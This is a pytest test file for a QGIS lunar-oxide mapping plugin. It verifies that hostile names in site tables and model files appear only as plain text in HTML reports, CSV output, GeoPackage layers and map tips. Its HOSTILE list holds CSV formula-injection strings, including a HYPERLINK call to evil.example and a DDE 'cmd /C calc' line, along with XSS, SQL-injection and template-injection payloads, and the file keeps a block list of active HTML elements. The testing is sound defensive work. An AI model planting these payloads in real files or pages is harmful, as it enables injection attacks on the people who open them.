"""Names from users' tables and model files remain text in HTML, CSV, GeoPackage, map tips."""

from __future__ import annotations

import csv
from html.parser import HTMLParser

import pytest
import rasterio
from qgis.core import (
    QgsCoordinateReferenceSystem,
    QgsExpression,
    QgsExpressionContext,
    QgsFeature,
    QgsGeometry,
    QgsPointXY,
    QgsVectorLayer,
)

from lunar_oxide_plugin.algorithms.explanation_layers import _map_tip as explanation_map_tip
from lunar_oxide_plugin.algorithms.site_layers import moon_geographic_crs, site_map_tip
from lunar_oxide_plugin.core.chemistry.oxides import OXIDES
from tests.models import description, write_linear_model
from tests.rasters import random_dn, write_mi_geotiff

HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</table></main><iframe src='//evil.example'></iframe>",
    "'; DROP TABLE check; --",
    "[% eval('1+1') %]",
    "{{7*7}} ${7*7} %s %n",
    "a\"b'c&d;e,f",
    "\u202egnp.exe",
)
#: White space around identifiers is removed.
NAMES = {text.strip() for text in HOSTILE}

#: Elements and attributes that reports never contain.
ACTIVE_ELEMENTS = {"script", "img", "iframe", "object", "embed", "form", "input", "base", "link"}


class Page(HTMLParser):
    """Elements, links and visible text of an HTML page."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements, self.attributes, self.links, self.text = set(), set(), [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name in ("href", "src", "xlink:href")]

    def handle_data(self, data):
        self.text.append(data)

    def require_harmless(self, files=()):
        """No script, and no link but to citations, within the page, and to the run's `files`."""
        assert not self.elements & ACTIVE_ELEMENTS
        assert not {name for name in self.attributes if name.startswith("on")}
        elsewhere = [x for x in self.links if not x.startswith(("https://doi.org/", "#"))]
        assert elsewhere == list(files)


@pytest.fixture(scope="module")
def prediction(run, tmp_path_factory):
    """A map by a model whose every text is hostile."""
    folder = tmp_path_factory.mktemp("prediction")
    texts = {"title": HOSTILE[6], "version": HOSTILE[7], "citation": HOSTILE[8], "name": HOSTILE[0]}
    model = write_linear_model(folder / "m.onnx", description(**texts))
    raster = write_mi_geotiff(folder / "in.tif", random_dn(30, 30))
    run(
        "predictoxides", INPUT=str(raster), MODEL_FILE=str(model), OUTPUT=str(folder / "oxides.tif")
    )
    return folder / "oxides.tif"


@pytest.fixture(scope="module")
def checked(run, prediction, tmp_path_factory):
    """Sites with hostile identifiers, names and missions, all on the map, but for one."""
    folder = tmp_path_factory.mktemp("check")
    fields = "field=station_id:string&field=mission:string&field=FeO:double"
    sites = QgsVectorLayer(f"Point?{fields}", "sites", "memory")
    sites.setCrs(moon_geographic_crs())
    with rasterio.open(prediction) as dataset:
        metres_per_degree = 30323.35
        west, north = (value / metres_per_degree for value in dataset.transform * (1, 1))
    features = []
    for number, text in enumerate([*HOSTILE, "outside <b>the</b> map"]):
        feature = QgsFeature(sites.fields())
        lon = 10.0 if text.startswith("outside") else west + number * 0.0015
        feature.setGeometry(QgsGeometry.fromWkt(f"POINT({lon} {north - 0.0005})"))
        feature.setAttributes([text, HOSTILE[number % len(HOSTILE)], 10.0 + number])
        features.append(feature)
    sites.dataProvider().addFeatures(features)
    results = run(
        "checkpredictions",
        INPUT=str(prediction),
        SITES=sites,
        WINDOW=1,
        OUTPUT=str(folder / "check.gpkg"),
        REPORT=str(folder / "report.html"),
        TABLE=str(folder / "check.csv"),
    )
    assert results["N_SITES"] == len(HOSTILE)
    return folder


def test_the_report_shows_names_as_text(checked):
    page = Page((checked / "report.html").read_text(encoding="utf-8"))
    page.require_harmless(files=["check.csv"])
    text = "".join(page.text)
    for name in HOSTILE:
        assert " ".join(name.split()) in " ".join(text.split())


def test_no_cell_of_the_table_is_a_formula(checked):
    with open(checked / "check.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, cells = rows[0], [row for row in rows[1:]]
    assert len(cells) == len(HOSTILE) + 1
    assert {len(row) for row in cells} == {len(header)}
    for row in cells:
        for column, cell in zip(header, row):
            if cell and not _is_number(cell):
                assert cell.lstrip()[0] not in "=+-@\uff1d\uff0b\uff0d\uff20", (column, cell)
                assert cell[0] not in "\t\r\n"
    names = {row[header.index("station_id")] for row in cells}
    names |= {name[1:] for name in names if name.startswith("'")}
    assert names >= NAMES


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_points_hold_the_names_unchanged(checked):
    layer = QgsVectorLayer(str(checked / "check.gpkg"))
    assert {feature["station_id"] for feature in layer.getFeatures()} == NAMES


def test_map_tips_show_names_as_text(qgis_app):
    from lunar_oxide_plugin.algorithms.site_layers import site_feature, site_fields
    from lunar_oxide_plugin.core.sites.sample_sites import SampleSite

    for name in HOSTILE:
        site = SampleSite(name, name, name, 1.0, 2.0, float("nan"), (1.0,) * 6, citation=name)
        context = QgsExpressionContext()
        context.setFeature(site_feature(site, site_fields()))
        context.setFields(site_fields())
        page = Page(QgsExpression.replaceExpressionText(site_map_tip(), context))
        page.require_harmless()
        assert page.elements == {"b", "br", "table", "tr", "th", "td", "i"}
        assert "".join(page.text).count(name) >= 4


def test_what_a_model_says_of_itself_is_text_in_the_window(tmp_path, qgis_app):
    from lunar_oxide_plugin.core.models.model_library import ModelEntry, check_model
    from lunar_oxide_plugin.gui.model_summary import model_html

    for text in HOSTILE:
        document = description(
            **{key: text for key in ("title", "version", "citation", "license", "summary", "name")},
            validation=[{"protocol": text, "r2": {"TiO2": 0.5}, "n": 3}],
        )
        document["input"]["sensor"] = document["input"]["geometry"] = text
        document["input"]["bands"][0]["name"] = text
        path = write_linear_model(tmp_path / "m.onnx", document)
        Page(model_html(check_model(ModelEntry(text, path, False)))).require_harmless()


def hostile_model(folder):
    """A model file whose every text is one of the hostile ones."""
    document = description(
        **{key: HOSTILE[7] for key in ("title", "version", "license", "name")},
        citation=HOSTILE[8],
        summary=HOSTILE[6],
        validation=[{"protocol": HOSTILE[6], "oxides": {HOSTILE[7]: {"r2": 0.5}}}],
        training={"stations": list(HOSTILE), "n_stations": len(HOSTILE)},
    )
    document["input"]["sensor"] = HOSTILE[6]
    document["input"]["geometry"] = HOSTILE[7]
    for band, text in zip(document["input"]["bands"], HOSTILE[5:]):
        band["name"] = text
    return write_linear_model(folder / "hostile.onnx", document)


def test_the_card_of_a_hostile_model_is_text(run, tmp_path):
    card = tmp_path / "card.html"
    run("describemodel", MODEL_FILE=str(hostile_model(tmp_path)), OUTPUT=str(card))
    page = Page(card.read_text(encoding="utf-8"))
    page.require_harmless()
    assert HOSTILE[6] in "".join(page.text)


def test_explanations_show_hostile_labels_and_bands_as_text(run, tmp_path):
    raster = write_mi_geotiff(tmp_path / "in.tif", random_dn(20, 20))
    points = QgsVectorLayer("Point?field=code:string", "points", "memory")
    with rasterio.open(raster) as dataset:
        points.setCrs(QgsCoordinateReferenceSystem.fromWkt(dataset.crs.to_wkt()))
        places = [dataset.xy(number, 2 * (number % 10)) for number in range(len(HOSTILE))]
    features = []
    for (x, y), text in zip(places, HOSTILE):
        feature = QgsFeature(points.fields())
        feature.setGeometry(QgsGeometry.fromPointXY(QgsPointXY(x, y)))
        feature.setAttributes([text])
        features.append(feature)
    points.dataProvider().addFeatures(features)
    run(
        "explainprediction",
        INPUT=str(raster),
        MODEL_FILE=str(hostile_model(tmp_path)),
        POINTS=points,
        LABEL="code",
        OUTPUT=str(tmp_path / "points.gpkg"),
        REPORT=str(tmp_path / "report.html"),
    )
    Page((tmp_path / "report.html").read_text(encoding="utf-8")).require_harmless()
    layer = QgsVectorLayer(str(tmp_path / "points.gpkg"))
    assert layer.featureCount() == len(HOSTILE)
    for feature in layer.getFeatures():
        context = QgsExpressionContext()
        context.setFeature(feature)
        context.setFields(layer.fields())
        Page(
            QgsExpression.replaceExpressionText(explanation_map_tip(OXIDES), context)
        ).require_harmless()


def test_comparing_maps_shows_a_hostile_model_as_text(run, tmp_path, prediction):
    report = tmp_path / "report.html"
    run(
        "comparerasters",
        PREDICTION=str(prediction),
        REFERENCE=str(prediction),
        REFERENCE_BAND=2,
        OXIDE=1,
        OUTPUT=str(tmp_path / "difference.tif"),
        REPORT=str(report),
    )
    Page(report.read_text(encoding="utf-8")).require_harmless()
